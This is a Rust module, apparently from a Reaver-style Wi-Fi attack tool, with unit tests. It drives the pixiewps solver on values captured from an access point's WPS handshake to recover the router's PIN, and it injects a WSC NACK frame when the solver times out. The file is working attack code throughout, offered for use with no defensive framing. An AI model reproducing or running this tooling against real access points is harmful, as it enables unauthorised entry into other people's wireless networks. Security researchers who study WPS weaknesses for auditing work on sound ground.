//! Pixie-dust solver race
//!
//! The solver is an external program fed hex-encoded values captured from
//! the M1-M3 exchange. It either prints the recovered PIN quickly or it
//! never will, so the run is bounded by the protocol receive timeout: if
//! the deadline passes first we tell the AP to abort the registration run
//! with a WSC NACK and report the attempt as timed out. The solver process
//! is not killed; it is drained afterwards to release its resources.

use std::fmt::Write as _;
use std::process::Stdio;
use std::time::Duration;

use tokio::io::{AsyncBufReadExt, BufReader};
use tokio::process::Command;
use tokio::sync::oneshot;
use tokio::time::sleep;
use tracing::{debug, info, warn};

use reaver_core::{Error, Result, TransmitSink};
use reaver_packet::FrameBuilder;

/// Line prefix the solver prints when it recovers a PIN.
const PIN_MARKER: &str = "[+] WPS pin:";

/// Solver sentinel for "registration needs no PIN segment at all".
const EMPTY_SENTINEL: &str = "empty";

pub const DEFAULT_SOLVER: &str = "pixiewps";

/// Inputs for one solver invocation, all hex-encoded.
#[derive(Debug, Clone, Default)]
pub struct PixieRequest {
    pub pke: String,
    pub ehash1: String,
    pub ehash2: String,
    pub authkey: String,
    pub enonce: String,
    /// Enrollee used the small Diffie-Hellman exponent shortcut. When
    /// clear the registrar public key must be supplied instead.
    pub dh_small: bool,
    pub pkr: String,
}

impl PixieRequest {
    /// Solver argv, in the order the solver documents.
    pub fn to_args(&self) -> Vec<String> {
        let mut args = vec![
            "-e".into(),
            self.pke.clone(),
            "-s".into(),
            self.ehash1.clone(),
            "-z".into(),
            self.ehash2.clone(),
            "-a".into(),
            self.authkey.clone(),
            "-n".into(),
            self.enonce.clone(),
        ];
        if self.dh_small {
            args.push("-S".into());
        } else {
            args.push("-r".into());
            args.push(self.pkr.clone());
        }
        args
    }
}

/// Lowercase hex encoding for raw captured bytes.
pub fn hex_format(data: &[u8]) -> String {
    let mut out = String::with_capacity(data.len() * 2);
    for b in data {
        let _ = write!(out, "{b:02x}");
    }
    out
}

/// Result of one solver race.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PixieOutcome {
    pub success: bool,
    /// Recovered PIN. An empty string is a valid success and means the
    /// AP accepts registration with no PIN segment.
    pub pin: Option<String>,
    pub timed_out: bool,
}

impl PixieOutcome {
    fn found(pin: String) -> Self {
        PixieOutcome {
            success: true,
            pin: Some(pin),
            timed_out: false,
        }
    }

    fn failed() -> Self {
        PixieOutcome {
            success: false,
            pin: None,
            timed_out: false,
        }
    }

    fn timed_out() -> Self {
        PixieOutcome {
            success: false,
            pin: None,
            timed_out: true,
        }
    }
}

/// Runs the solver subprocess against the receive-timeout deadline.
#[derive(Debug, Clone)]
pub struct PixieRunner {
    solver: String,
}

impl Default for PixieRunner {
    fn default() -> Self {
        PixieRunner::new()
    }
}

impl PixieRunner {
    pub fn new() -> Self {
        PixieRunner {
            solver: DEFAULT_SOLVER.into(),
        }
    }

    /// Use an alternative solver binary or wrapper script.
    pub fn with_solver<S: Into<String>>(solver: S) -> Self {
        PixieRunner {
            solver: solver.into(),
        }
    }

    /// Race the solver against `timeout`.
    ///
    /// On timeout exactly one WSC NACK is injected through `sink` before
    /// returning, so the AP does not sit in a half-open registration run
    /// while the solver grinds on. A spawn failure is an error, not a
    /// retry.
    pub async fn run(
        &self,
        req: &PixieRequest,
        timeout: Duration,
        sink: &mut dyn TransmitSink,
        builder: &mut FrameBuilder<'_>,
        enrollee_nonce: &[u8; 16],
        registrar_nonce: &[u8; 16],
    ) -> Result<PixieOutcome> {
        info!(solver = %self.solver, "starting pixie-dust solver");

        let mut child = Command::new(&self.solver)
            .args(req.to_args())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .map_err(|e| Error::pixie(format!("failed to spawn {}: {e}", self.solver)))?;

        let stdout = child
            .stdout
            .take()
            .ok_or_else(|| Error::pixie("solver stdout not captured"))?;

        let (tx, mut rx) = oneshot::channel();
        let worker = tokio::spawn(async move {
            let mut pin = None;
            let mut lines = BufReader::new(stdout).lines();
            while let Ok(Some(line)) = lines.next_line().await {
                info!(target: "pixie", "{line}");
                if let Some(rest) = parse_pin_line(&line) {
                    pin = Some(rest);
                }
            }
            let result = match child.wait().await {
                Ok(status) if status.success() => pin,
                Ok(status) => {
                    debug!(?status, "solver exited unsuccessfully");
                    None
                }
                Err(e) => {
                    debug!("solver wait failed: {e}");
                    None
                }
            };
            let _ = tx.send(result);
        });

        let outcome = tokio::select! {
            result = &mut rx => match result {
                Ok(Some(pin)) => {
                    info!(pin = %pin, "pixie-dust solver recovered a PIN");
                    PixieOutcome::found(pin)
                }
                Ok(None) => {
                    warn!("pixie-dust solver found no PIN");
                    PixieOutcome::failed()
                }
                Err(_) => PixieOutcome::failed(),
            },
            _ = sleep(timeout) => {
                warn!("pixie-dust solver timed out, sending WSC NACK");
                let nack = builder.wsc_nack(enrollee_nonce, registrar_nonce);
                sink.send(&nack, false)?;
                PixieOutcome::timed_out()
            }
        };

        // Drain the worker so the child is reaped even after a timeout.
        let _ = worker.await;
        Ok(outcome)
    }
}

/// Extracts the PIN from a solver output line, if it carries one.
fn parse_pin_line(line: &str) -> Option<String> {
    let (_, rest) = line.split_once(PIN_MARKER)?;
    if rest.contains(EMPTY_SENTINEL) {
        return Some(String::new());
    }
    let pin: String = rest.trim().chars().take(8).collect();
    Some(pin)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;
    use std::os::unix::fs::PermissionsExt;
    use std::path::PathBuf;

    use reaver_core::{MacAddr, RecordingSink, TargetConfig};

    fn config() -> TargetConfig {
        TargetConfig::new(
            MacAddr([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
            MacAddr([0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff]),
        )
    }

    fn stub_solver(name: &str, script: &str) -> PathBuf {
        let path = std::env::temp_dir().join(format!("reaver-pixie-{name}-{}", std::process::id()));
        fs::write(&path, format!("#!/bin/sh\n{script}\n")).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        path
    }

    #[test]
    fn args_with_small_dh() {
        let req = PixieRequest {
            pke: "aa".into(),
            ehash1: "bb".into(),
            ehash2: "cc".into(),
            authkey: "dd".into(),
            enonce: "ee".into(),
            dh_small: true,
            pkr: String::new(),
        };
        assert_eq!(
            req.to_args(),
            vec!["-e", "aa", "-s", "bb", "-z", "cc", "-a", "dd", "-n", "ee", "-S"]
        );
    }

    #[test]
    fn args_with_registrar_key() {
        let req = PixieRequest {
            pke: "aa".into(),
            ehash1: "bb".into(),
            ehash2: "cc".into(),
            authkey: "dd".into(),
            enonce: "ee".into(),
            dh_small: false,
            pkr: "ff00".into(),
        };
        let args = req.to_args();
        assert_eq!(&args[args.len() - 2..], ["-r", "ff00"]);
    }

    #[test]
    fn hex_format_lowercase() {
        assert_eq!(hex_format(&[0xde, 0xad, 0x00, 0x0f]), "dead000f");
    }

    #[test]
    fn pin_line_parsing() {
        assert_eq!(
            parse_pin_line(" [+] WPS pin: 12345670"),
            Some("12345670".to_string())
        );
        assert_eq!(
            parse_pin_line(" [+] WPS pin: <empty>"),
            Some(String::new())
        );
        assert_eq!(parse_pin_line(" [*] PSK: deadbeef"), None);
    }

    #[tokio::test]
    async fn fast_solver_reports_pin_without_nack() {
        let solver = stub_solver("fast", "echo '[+] WPS pin: 12345670'");
        let cfg = config();
        let mut builder = FrameBuilder::new(&cfg);
        let mut sink = RecordingSink::default();

        let outcome = PixieRunner::with_solver(solver.to_string_lossy())
            .run(
                &PixieRequest::default(),
                Duration::from_secs(5),
                &mut sink,
                &mut builder,
                &[0u8; 16],
                &[0u8; 16],
            )
            .await
            .unwrap();

        assert!(outcome.success);
        assert_eq!(outcome.pin.as_deref(), Some("12345670"));
        assert!(!outcome.timed_out);
        assert!(sink.frames.is_empty());
        let _ = fs::remove_file(solver);
    }

    #[tokio::test]
    async fn slow_solver_times_out_with_single_nack() {
        let solver = stub_solver("slow", "sleep 1; echo '[+] WPS pin: 12345670'");
        let cfg = config();
        let mut builder = FrameBuilder::new(&cfg);
        let mut sink = RecordingSink::default();

        let outcome = PixieRunner::with_solver(solver.to_string_lossy())
            .run(
                &PixieRequest::default(),
                Duration::from_millis(50),
                &mut sink,
                &mut builder,
                &[0u8; 16],
                &[0u8; 16],
            )
            .await
            .unwrap();

        assert!(!outcome.success);
        assert_eq!(outcome.pin, None);
        assert!(outcome.timed_out);
        assert_eq!(sink.frames.len(), 1);
        let _ = fs::remove_file(solver);
    }

    #[tokio::test]
    async fn failing_solver_reports_no_success() {
        let solver = stub_solver("fail", "echo 'nothing here'; exit 1");
        let cfg = config();
        let mut builder = FrameBuilder::new(&cfg);
        let mut sink = RecordingSink::default();

        let outcome = PixieRunner::with_solver(solver.to_string_lossy())
            .run(
                &PixieRequest::default(),
                Duration::from_secs(5),
                &mut sink,
                &mut builder,
                &[0u8; 16],
                &[0u8; 16],
            )
            .await
            .unwrap();

        assert!(!outcome.success);
        assert!(!outcome.timed_out);
        assert_eq!(outcome.pin, None);
        let _ = fs::remove_file(solver);
    }

    #[test]
    fn missing_solver_is_spawn_error() {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let cfg = config();
        let mut builder = FrameBuilder::new(&cfg);
        let mut sink = RecordingSink::default();

        let err = rt
            .block_on(PixieRunner::with_solver("/nonexistent/pixie-solver").run(
                &PixieRequest::default(),
                Duration::from_secs(1),
                &mut sink,
                &mut builder,
                &[0u8; 16],
                &[0u8; 16],
            ))
            .unwrap_err();
        assert!(matches!(err, Error::Pixie(_)));
    }
}
